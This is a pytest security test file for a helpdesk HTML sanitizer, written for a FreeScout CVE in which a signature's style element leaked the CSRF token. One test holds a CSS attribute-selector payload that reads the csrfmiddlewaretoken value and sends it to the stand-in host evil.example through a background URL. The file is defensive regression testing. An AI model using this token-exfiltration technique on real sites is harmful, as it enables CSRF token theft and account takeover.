"""CVE-2026-40497 (FreeScout): a style element in a signature read the CSRF token by attribute selectors."""

import pytest

from helpdesk.lib.html import clean
from tests.security.armed import armed
from tests.security.conftest import Places
from tests.security.more_vectors import STYLES

STYLED = {"mail body in the ticket", "agent's answer in the ticket", "note in the ticket"}


@pytest.mark.parametrize("vector", STYLES)
def test_no_style_asks_anybody_or_reads_a_field(vector: str) -> None:
    assert armed(clean(vector)) == []


def test_only_our_own_style_stands_in_a_page_with_foreign_html(places: Places) -> None:
    vector = "<style>input[name=csrfmiddlewaretoken][value^=a]{background:url(//evil.example/a)}</style><p>Hello</p>"
    shown = places("html", vector, *STYLED)

    for html in shown.values():
        assert html.count("<style") == 1
        assert "csrfmiddlewaretoken" not in html
        assert "Hello" in html
